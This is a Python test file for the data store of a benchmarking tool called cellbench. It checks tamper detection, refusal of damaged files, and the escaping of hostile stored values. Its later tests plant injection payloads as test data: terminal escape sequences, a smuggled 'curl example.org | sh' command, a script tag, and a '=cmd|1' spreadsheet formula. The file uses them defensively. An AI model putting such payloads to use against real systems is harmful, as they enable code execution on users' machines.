"""The store: what it holds comes back, what was changed is told, and it is never begun again in silence."""

from __future__ import annotations

import csv
import json
import math
import os
import re
import sqlite3
import sys
from contextlib import closing
from pathlib import Path

import pytest
import yaml

from cellbench.errors import StoreError
from cellbench.records import CurvePoint, Outcome, Replica
from cellbench.results import results
from cellbench.running import run as run_experiment
from cellbench.store import Store
from tests.helpers.commands import TINY, Command
from tests.helpers.runs import exports, reseal


def execute(statement: str, folder: str = "out") -> None:
    with closing(sqlite3.connect(f"{folder}/runs.sqlite", isolation_level=None)) as db:
        db.execute(statement)


def test_a_loss_that_is_no_number() -> None:
    """NaN is stored as nothing, infinity as it is; the checksum holds."""
    curve = (CurvePoint(5, math.nan, 0.5, 0.0), CurvePoint(10, math.inf, 0.5, 0.0))
    with Store(Path("out"), write=True) as store:
        store.add([Outcome("k", "diverged", curve=curve, final_loss=math.nan)], [Replica("k", 0, 0.1)], "{}")
        store.check()
        rows = store.db.execute("SELECT loss FROM curve ORDER BY step").fetchall()
        assert rows == [(None,), (math.inf,)]


def test_nothing_that_changes_its_place() -> None:
    """What was never measured is no number, wherever it stands: a loss that is none, and an accuracy that is none."""
    lost = Outcome("k", "diverged", final_loss=None, final_bit_accuracy=0.5, final_sequence_accuracy=0.0)
    with Store(Path("out"), write=True) as store:
        store.add([lost], [Replica("k", 0, 0.1)], "{}")
        store.check()
        store.db.execute("UPDATE replica SET final_loss = final_bit_accuracy, final_bit_accuracy = NULL")
        with pytest.raises(StoreError, match="the numbers of the replica k were changed after they were stored"):
            store.check()


def test_a_loss_of_negative_zero() -> None:
    """sqlite keeps no sign of a zero; the checksum holds all the same."""
    outcome = Outcome("k", "solved", curve=(CurvePoint(5, -0.0, 1.0, 1.0),), final_loss=-0.0)
    with Store(Path("out"), write=True) as store:
        store.add([outcome], [Replica("k", 0, 0.1)], "{}")
        store.check()


def test_outcomes_are_stored_once() -> None:
    """What is there stays, but for what a machine's fault had ended, whose curve goes too; a batch may hold both."""
    replicas = [Replica(f"k{i}", i, 0.1) for i in range(3)]
    point = (CurvePoint(5, 0.7, 0.5, 0.0),)
    with Store(Path("out"), write=True) as store:
        lost = Outcome("k1", "failed", "machine", curve=point, traceback="gone")
        store.add([Outcome("k0", "censored", final_step=5), lost], replicas[:2], "{}")
        assert store.done() == {"k0"}
        again = [Outcome(f"k{i}", "solved", final_step=6, curve=point) for i in range(3)]
        store.add(again, replicas, "{}")
        rows = store.db.execute("SELECT key, seed, status, final_step FROM replica ORDER BY key").fetchall()
        assert rows == [("k0", 0, "censored", 5), ("k1", 1, "solved", 6), ("k2", 2, "solved", 6)]
        assert store.db.execute("SELECT count(*) FROM curve").fetchone() == (2,)
        assert store.db.execute("SELECT key_text FROM family").fetchall() == [("{}",)]
        store.check()


WHERE = "rnn at bits 4, batch 4, hidden 3, rate 0.05"


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE curve SET loss = loss + 1e-15 WHERE step = 10 AND replica = 2",
        "UPDATE replica SET status = 'solved' WHERE id = 2",
        "UPDATE replica SET learning_rate = 0.25 WHERE id = 2",
        "UPDATE replica SET final_loss = -final_loss WHERE id = 2",
        "UPDATE replica SET final_loss = final_bit_accuracy, final_bit_accuracy = final_loss WHERE id = 2",
        "UPDATE evaluation SET value = 7 WHERE replica = 2 AND position = 1",
        "DELETE FROM curve WHERE replica = 2 AND step = 20",
    ],
)
def test_a_changed_number_is_told(statement: str, command: Command) -> None:
    """Every report refuses it, and names the replica and the ways out."""
    run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
    results.write(Path("out"))
    execute(statement)
    ended = command("report", "out")
    assert ended.status == 2
    assert (
        "the numbers of rnn at bits 4, batch 4, hidden 3, rate 0.05, seed 1 were changed after they were stored"
        in ended.err
    )
    assert "--fresh" in ended.err


def test_a_changed_key_is_told(command: Command) -> None:
    """What the keys of a point's replicas share is compared too."""
    run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
    execute("UPDATE family SET key_text = replace(key_text, 'adam', 'sgd')")
    ended = command("report", "out")
    assert (
        ended.status,
        f"the numbers of {WHERE}, seed 0 were changed after" in ended.err,
    ) == (2, True)


@pytest.mark.parametrize("parameters", ["5", "[]", "null", "{", '"bits"', "{}", '{"bits": 4, "more": 1}'])
@pytest.mark.parametrize("ask", ["report", "verify"])
def test_parameters_that_are_none(parameters: str, ask: str, command: Command) -> None:
    """Where the plan holds no parameters, each reader says so. Found by the fuzz: verify showed a traceback."""
    run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
    execute(f"UPDATE plan SET parameters = '{parameters}' WHERE position > 0")
    ended = command(ask, "out")
    assert ended.status == 2 or ":\n  rnn at " in ended.out, ended.err
    assert "--fresh" in ended.err or ask == "verify"


def test_no_steps_at_all(command: Command) -> None:
    """An experiment of 0 steps is none of ours. Found by the fuzz: the report took its logarithm."""
    run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
    execute("UPDATE experiment SET resolved = json_set(resolved, '$.train.max_steps', 0)")
    ended = command("report", "out")
    assert (ended.status, "train.max_steps is 0" in ended.err) == (2, True), ended.err


@pytest.mark.parametrize("path", ["evaluate", "evaluate.every", "train.optimizer", "final.examples", "train.timeout"])
@pytest.mark.parametrize("change", ["json_remove(resolved, '$.{}')", "json_set(resolved, '$.{}', null)"])
def test_verify_misses_a_setting(path: str, change: str, command: Command) -> None:
    """It says what is not there, whichever it is. Found by the fuzz: a traceback."""
    run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
    execute(f"UPDATE experiment SET resolved = {change.format(path)}")
    ended = command("verify", "out")
    assert ended.status in (1, 2), ended.err
    assert "--fresh" in ended.err or ":\n  rnn at " in ended.out


def test_a_value_beyond_whole_numbers() -> None:
    """A length of 1e19 is written as it is. Found by the fuzz: it was cut to what fits 64 bits."""
    run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
    execute("UPDATE evaluation SET value = 1e19 WHERE position = 1")
    reseal(Path("out"))
    found = results.write(Path("out"), charts=False)
    assert 1e19 in found.summary.accuracy["value"].to_list()


def test_a_key_that_changed_anywhere(command: Command) -> None:
    """In the plan, the table or its index alone: told, never a replica left out. Found by a bit of test_faults."""
    run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
    results.write(Path("out"), charts=False)
    path, right = Path("out/runs.sqlite"), exports(Path("out"))
    whole = path.read_bytes()
    key = right["runs.csv"][0]["key"].encode()
    places = [found.start() for found in re.finditer(key, whole)]
    assert len(places) == 3
    for place in places:
        harmed = bytearray(whole)
        harmed[place] ^= 1
        path.write_bytes(harmed)
        ended = command("report", "out")
        told = ended.status == 2 and "--fresh" in ended.err
        # the plan is no result: what it names and is not there is missing, and says so
        assert told or "1 not run, of 2 replicas" in " ".join(ended.out.split()), ended.out
        try:
            run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
        except StoreError:
            assert path.read_bytes() == harmed
        else:
            results.write(Path("out"), charts=False)
            assert exports(Path("out")) == right


def test_a_schema_that_is_no_text(command: Command) -> None:
    """Bytes that are no UTF-8 where sqlite keeps the tables' texts. Found by the noise of test_faults."""
    run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
    path = Path("out/runs.sqlite")
    harmed = path.read_bytes().replace(b"parameters_n  INT", b"parameters_\xf7  INT")
    path.write_bytes(harmed)
    for arguments in (["report", "out"], ["status", "out"], ["verify", "out"], ["merge", "to", "out"]):
        ended = command(*arguments)
        assert (ended.status, "--fresh" in ended.err) == (2, True), arguments
    assert path.read_bytes() == harmed


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
@pytest.mark.parametrize("write", [True, False])
@pytest.mark.parametrize("change", ["PRAGMA user_version = 99", "CREATE TABLE more (x)", "PRAGMA application_id = 7"])
def test_what_is_refused_is_closed(change: str, write: bool) -> None:
    """A file that stays open cannot be moved on Windows, and Python 3.13 warns of it."""
    run_experiment(TINY, "out", report=False)
    with closing(sqlite3.connect("out/runs.sqlite")) as db, db:
        db.execute(change)
    with pytest.raises(StoreError):
        Store(Path("out"), write=write)
    # the error, which pytest keeps, keeps the store too
    opened = [os.readlink(file) for file in Path("/proc/self/fd").iterdir() if file.is_symlink()]
    assert str(Path("out/runs.sqlite").resolve()) not in opened


def test_what_is_damaged_is_left_as_it_is(command: Command) -> None:
    """Empty, cut, foreign, lacking a table: a run is refused, and the file is what it was."""
    run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
    path = Path("out/runs.sqlite")
    whole = path.read_bytes()
    for harm in (b"", whole[:5000], whole[: len(whole) - 1000], b"text" * 5000):
        path.write_bytes(harm)
        with pytest.raises(StoreError, match=r"--fresh|--results"):
            run_experiment({**TINY, "cells": ["rnn"]}, "out", report=False)
        assert path.read_bytes() == harm
        assert command("status", "out").status in (0, 2)  # which reads only what it shows
    path.write_bytes(whole)
    execute("DROP TABLE curve")
    assert "lacks curve" in command("status", "out").err


def test_a_terminal_only_shows(command: Command) -> None:
    """What a hand-made store holds neither steers the terminal nor hides a command in the one to go on with."""
    run_experiment(TINY, "out", report=False)
    with Store(Path("out"), write=False) as store:
        experiment = store.experiment()
    steering = "\x1b[2J\x1b]0;owned\x07\u202e"
    environment = json.dumps({**experiment["environment"], "processor": f"vax{steering}"})
    with closing(sqlite3.connect("out/runs.sqlite", isolation_level=None)) as db:
        db.execute("UPDATE experiment SET environment = ?, started = ?", (environment, steering))
        db.execute("UPDATE experiment SET command = 'cellbench run x.yaml; curl example.org | sh --fresh'")
        db.execute("DELETE FROM replica WHERE id = 1")
        db.execute("UPDATE plan SET label = ? WHERE label = 'rnn'", (f"rnn{steering}",))
    shown = command("status", "out")
    assert r"vax\x1b[2J\x1b]0;owned\x07\u202e" in shown.out
    assert "\n  cellbench run 'x.yaml;' curl example.org '|' sh\n" in shown.out
    for ended in (shown, command("report", "out"), command("verify", "out"), command("merge", "more", "out")):
        assert not {c for c in ended.out + ended.err if not c.isprintable()} - {"\n"}


def test_what_is_no_name_is_escaped_everywhere(command: Command) -> None:
    """Texts that may hold anything, in what merge and run print and in the files that people show on a terminal."""
    Path("tiny.yaml").write_text(yaml.safe_dump({**TINY, "name": "out", "engine": "auto"}))
    run_experiment({**TINY, "name": "out"}, "out", report=False)
    steering = "\x1b[2J\u202e"
    with closing(sqlite3.connect("out/runs.sqlite", isolation_level=None)) as db:
        for column in ("isa", "host", "worker", "compiler"):
            db.execute(f"UPDATE replica SET {column} = ? WHERE id = 1", (f"vax{steering}",))
        db.execute("UPDATE replica SET status = 'failed', cause = 'cell', traceback = ? WHERE id = 3", (steering,))
        db.execute("UPDATE engine SET engine = ?", (f"vax{steering}",))
    reseal(Path("out"))
    merged = command("merge", "more", "out")
    assert "Replicas of one cell were trained differently, and their numbers are rounded differently: " in merged.err
    assert r"vax\x1b[2J\u202e, vax\x1b[2J\u202e" in merged.err
    assert r"rnn: vax\x1b" in command("run", "tiny.yaml", "--results", ".", "--dry-run").out
    for ended in (merged, command("run", "tiny.yaml", "--results", ".", "--workers", 1), command("report", "out")):
        assert not {c for c in ended.out + ended.err if not c.isprintable()} - {"\n"}
    for name in ("failures.txt", "runs.csv", "summary.md", "summary.tex"):
        assert not {c for c in Path("out", name).read_text() if not c.isprintable()} - {"\n"}, name
    assert r"\x1b[2J\u202e" in Path("out/failures.txt").read_text()


def test_a_value_in_the_head_of_a_table(command: Command) -> None:
    """What accuracies are by heads columns of Markdown, where it is text."""
    run_experiment(TINY, "out", report=False)
    execute("UPDATE evaluation SET value = '<script>x</script>|*a*' WHERE by = 'bits'")
    reseal(Path("out"))
    assert command("report", "out").status == 0
    markdown = Path("out/summary.md").read_text()
    assert "<script" not in markdown
    assert r"| &lt;script>x&lt;/script>\|\*a\* " in markdown


def test_a_task_whose_parameter_is_a_formula(command: Command) -> None:
    """The header of a column is made as harmless as what stands below it."""
    run_experiment(TINY, "out", report=False)
    with Store(Path("out"), write=False) as store:
        facts = {**store.experiment()["facts"], "axes": ["=cmd|1"]}
    with closing(sqlite3.connect("out/runs.sqlite", isolation_level=None)) as db:
        db.execute("UPDATE experiment SET facts = ?", (json.dumps(facts),))
        db.execute("""UPDATE plan SET parameters = '{"=cmd|1": 4}'""")
        db.execute("UPDATE evaluation SET by = '=cmd|1' WHERE by = 'bits'")
    reseal(Path("out"))
    assert command("report", "out").status == 0
    for name in ("runs.csv", "curves.csv", "summary.csv", "comparisons.csv", "accuracy.csv"):
        header = next(csv.reader(Path("out", name).read_text().splitlines()))
        assert "'=cmd|1" in header
        assert not [word for word in header if word.startswith("=")]
